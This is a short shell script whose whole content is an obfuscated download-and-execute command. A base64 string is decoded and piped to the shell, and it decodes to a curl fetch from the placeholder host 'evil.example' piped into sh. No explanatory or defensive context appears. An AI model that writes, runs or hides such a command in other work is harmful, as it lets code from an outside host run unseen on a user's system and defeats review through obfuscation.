#!/bin/sh
echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | sh
